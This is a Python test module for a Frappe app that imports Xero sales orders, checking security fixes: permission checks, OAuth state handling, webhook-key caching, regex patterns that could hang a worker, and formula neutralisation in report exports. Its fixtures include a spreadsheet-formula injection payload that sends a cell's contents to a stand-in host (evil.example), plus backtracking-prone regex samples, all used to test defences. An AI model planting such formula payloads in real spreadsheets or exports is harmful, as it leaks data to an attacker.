"""The smaller doors of issue 11, item 10, each tried as it would be met on a real bench.

- ``retry_push`` checks the invoice document (and its order), not only the role;
- the OAuth state is claimed atomically with commands every Redis has (no GETDEL), and is not pickled;
- the webhook-key cache never keeps an old key after Redis lost its version counter;
- a failed re-consent leaves a working connection Connected, so its keep-alive, sync and reconciliation run;
- a PO pattern that could hang a web worker is refused when the batch is saved;
- report cells a spreadsheet would run as formulas are neutralised, on screen and in Frappe's export.
"""

import csv
import io
import json
import threading

import frappe
from frappe.desk.query_report import export_query, run
from frappe.permissions import add_user_permission
from frappe.tests.utils import FrappeTestCase

from xero_sales_orders.api import orders as orders_api
from xero_sales_orders.exceptions import ImportSettingsError
from xero_sales_orders.services import webhook_config, xero_consent, xero_tokens
from xero_sales_orders.services.import_settings import BATCH
from xero_sales_orders.services.order_invoicing import create_invoice
from xero_sales_orders.tests.factories import make_contact, make_order, make_user
from xero_sales_orders.tests.test_reports import forget_orders_of
from xso_devkit.sandbox import connect, consent, start_sandbox

MANAGER = "xso-small-doors-manager@example.com"
SALES = "xso-small-doors-sales@example.com"
CONNECTION = "Small Doors Test"
CURRENCY = "XXX"  # ISO 4217 "no currency" (test_reports has XTS): the report rows are only this module's


class TestRetryPushChecksTheInvoice(FrappeTestCase):
	def setUp(self):
		frappe.set_user("Administrator")

	def tearDown(self):
		frappe.set_user("Administrator")

	def test_a_manager_restricted_to_other_orders_cannot_retry_this_invoice(self):
		mine, theirs = make_order(), make_order()
		invoice = create_invoice(theirs.name, [{"item": theirs.items[0].name, "qty": 1}])
		frappe.db.set_value("Xero Invoice", invoice.name, "push_state", "Failed")
		make_user(MANAGER, ["Xero Sales Manager"])
		frappe.db.delete("User Permission", {"user": MANAGER})
		add_user_permission("Xero Sales Order", mine.name, MANAGER)
		frappe.db.commit()
		try:
			frappe.set_user(MANAGER)
			with self.assertRaises(frappe.PermissionError):
				orders_api.retry_push(invoice.name)
		finally:
			frappe.set_user("Administrator")
			frappe.db.delete("User Permission", {"user": MANAGER})
			frappe.db.commit()
		self.assertEqual(frappe.db.get_value("Xero Invoice", invoice.name, "push_state"), "Failed")
		self.assertEqual(frappe.db.get_value("Xero Invoice", invoice.name, "push_attempts"), 0)

	def test_a_sales_user_cannot_retry(self):
		order = make_order()
		invoice = create_invoice(order.name, [{"item": order.items[0].name, "qty": 1}])
		make_user(SALES, ["Xero Sales User"])
		frappe.set_user(SALES)
		with self.assertRaises(frappe.PermissionError):
			orders_api.retry_push(invoice.name)


class TestConnectionDoors(FrappeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		frappe.set_user("Administrator")
		cls.sandbox = start_sandbox(tenants=1)
		connect(cls.sandbox, CONNECTION)

	@classmethod
	def tearDownClass(cls):
		cls.sandbox.stop()
		super().tearDownClass()

	def setUp(self):
		frappe.set_user("Administrator")
		frappe.db.commit()

	def getdel_calls(self) -> int:
		stats = frappe.cache.info("commandstats")
		return int((stats.get("cmdstat_getdel") or {}).get("calls", 0))

	def test_the_state_is_claimed_once_without_getdel_or_pickle(self):
		state = consent(CONNECTION, follow=False)["state"]
		raw = frappe.cache.get(frappe.cache.make_key(xero_consent._state_key(state)))
		self.assertEqual(json.loads(raw)["connection"], CONNECTION)  # plain JSON, not a pickle
		getdel_before = self.getdel_calls()
		claims, barrier, site = [], threading.Barrier(8), frappe.local.site

		def claim():  # eight callbacks with the same state, each in a worker of its own
			frappe.init(site=site)
			try:
				barrier.wait()
				claims.append(xero_consent._take_state_record(state))
			finally:
				frappe.destroy()

		threads = [threading.Thread(target=claim) for _ in range(8)]
		for t in threads:
			t.start()
		for t in threads:
			t.join(10)
		self.assertEqual(len(claims), 8)
		self.assertEqual(sum(1 for c in claims if c), 1, "exactly one callback gets the state")
		self.assertEqual(self.getdel_calls(), getdel_before, "GETDEL needs Redis 6.2; it must not be used")

	def test_a_failed_re_consent_leaves_a_working_connection_running(self):
		self.assertEqual(frappe.db.get_value("Xero Connection", CONNECTION, "status"), "Connected")
		state = consent(CONNECTION, follow=False)["state"]
		with self.assertRaisesRegex(frappe.ValidationError, "Xero refused the sign-in"):
			xero_consent.complete_authorization("a-code-xero-never-issued", state)
		frappe.db.commit()
		row = frappe.db.get_value("Xero Connection", CONNECTION, ["status", "last_error"], as_dict=True)
		self.assertEqual(row.status, "Connected")
		self.assertIn("Xero refused the sign-in", row.last_error)
		# The scheduled jobs still pick it up, and its tokens still work.
		self.assertIn(CONNECTION, xero_tokens.keep_tokens_alive(max_age_days=0))
		self.assertTrue(xero_tokens.get_access_token(CONNECTION))

	def test_a_failed_first_consent_marks_the_connection_error(self):
		from xso_devkit.sandbox import make_connection

		name = make_connection(self.sandbox, "Small Doors New")
		state = consent(name, follow=False)["state"]
		with self.assertRaises(frappe.ValidationError):
			xero_consent.complete_authorization("a-code-xero-never-issued", state)
		frappe.db.commit()
		self.assertEqual(frappe.db.get_value("Xero Connection", name, "status"), "Error")

	def test_the_webhook_key_cache_reloads_after_redis_lost_its_version(self):
		key = frappe.cache.make_key(webhook_config.CONFIG_VERSION_KEY)
		old_key = frappe.get_doc("Xero Connection", CONNECTION).get_password("webhook_key")
		try:
			# A worker caches the keys under version 1 (a counter that started at 1, as INCR starts it).
			frappe.cache.set(key, 1)
			self.assertEqual(webhook_config.current().keys[CONNECTION], old_key)
			# Redis restarts without persistence: the counter is gone. Then the key is changed.
			frappe.cache.delete(key)
			conn = frappe.get_doc("Xero Connection", CONNECTION)
			conn.webhook_key = "a-new-webhook-key"
			conn.flags.ignore_permissions = True
			conn.save()
			frappe.db.commit()  # the bump runs on save and again after the commit
			self.assertNotEqual(frappe.cache.get(key), b"1", "a lost counter never restarts at a used number")
			self.assertEqual(webhook_config.current().keys[CONNECTION], "a-new-webhook-key")

			# A change whose bump was lost (Redis down at that moment): a missing counter means reload.
			webhook_config.current()
			frappe.cache.delete(key)
			from frappe.utils.password import set_encrypted_password

			set_encrypted_password("Xero Connection", CONNECTION, "yet-another-key", "webhook_key")
			frappe.db.commit()
			self.assertEqual(webhook_config.current().keys[CONNECTION], "yet-another-key")
		finally:
			conn = frappe.get_doc("Xero Connection", CONNECTION)
			conn.webhook_key = old_key
			conn.flags.ignore_permissions = True
			conn.save()
			frappe.db.commit()


class TestPoPatternsCannotHangAWorker(FrappeTestCase):
	def setUp(self):
		frappe.set_user("Administrator")

	def test_patterns_that_could_hang_are_refused_when_the_batch_is_saved(self):
		for pattern, message in (
			("PO-((?:\\d+)+)", "could take too long to match \\(a repeat inside a repeat\\)"),
			("(\\w+)\\1", "a back-reference"),
			("PO-(\\d+)" + "x" * 193, "201 characters long; keep it to 200"),
		):
			with (
				self.subTest(pattern=pattern),
				self.assertRaisesRegex(ImportSettingsError, message),
			):
				frappe.get_doc(
					{
						"doctype": BATCH,
						"from_date": "2026-01-01",
						"to_date": "2026-12-31",
						"statuses": "AUTHORISED",
						"grouping": "PO Pattern",
						"po_pattern": pattern,
					}
				).insert()
			frappe.clear_messages()
		self.assertEqual(ImportSettingsError.http_status_code, 400)


class TestReportsNeutraliseFormulas(FrappeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		frappe.set_user("Administrator")
		forget_orders_of(CURRENCY)  # what a run of an older test module left in this currency on the site
		customer = make_contact('=HYPERLINK("https://evil.example/?x="&A1,"Invoice")').name
		cls.order = make_order(
			items=[
				{
					"item_code": "+CMD",
					"description": "-2+3 widgets",
					"qty": 2,
					"unit_price": 10,
					"tax_rate": 0,
				},
			],
			customer=customer,
			currency=CURRENCY,
			po_number="@SUM(A1:A9)",
		)

	def setUp(self):
		frappe.set_user("Administrator")

	def test_report_rows_show_formula_like_text_as_text_and_numbers_as_numbers(self):
		for report, column in (
			("Order Invoicing Status", "outstanding_qty"),
			("Uninvoiced Orders", "outstanding_amount"),
			("Order Book by Customer", "outstanding"),
		):
			with self.subTest(report=report):
				rows = [r for r in run(report, {"currency": CURRENCY})["result"] if isinstance(r, dict)]
				self.assertTrue(rows)
				row = rows[0]
				self.assertEqual(
					row["customer_name"], '\'=HYPERLINK("https://evil.example/?x="&A1,"Invoice")'
				)
				if "po_number" in row:
					self.assertEqual(row["po_number"], "'@SUM(A1:A9)")
				self.assertIsInstance(row[column], int | float)
				self.assertGreater(row[column], 0)
		line = [
			r for r in run("Order Invoicing Status", {"currency": CURRENCY})["result"] if isinstance(r, dict)
		][0]
		self.assertEqual((line["item_code"], line["description"]), ("'+CMD", "'-2+3 widgets"))

	def test_frappes_csv_export_of_a_report_is_neutralised(self):
		frappe.local.form_dict = frappe._dict(
			report_name="Order Invoicing Status",
			file_format_type="CSV",
			filters=json.dumps({"currency": CURRENCY}),
			visible_idx="[]",
		)
		export_query()
		content = frappe.response["filecontent"]
		cells = [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
		self.assertIn('\'=HYPERLINK("https://evil.example/?x="&A1,"Invoice")', cells)
		self.assertIn("'@SUM(A1:A9)", cells)
		self.assertIn("'-2+3 widgets", cells)
		self.assertFalse([c for c in cells if c[:1] in ("=", "+", "-", "@")], "no cell starts a formula")
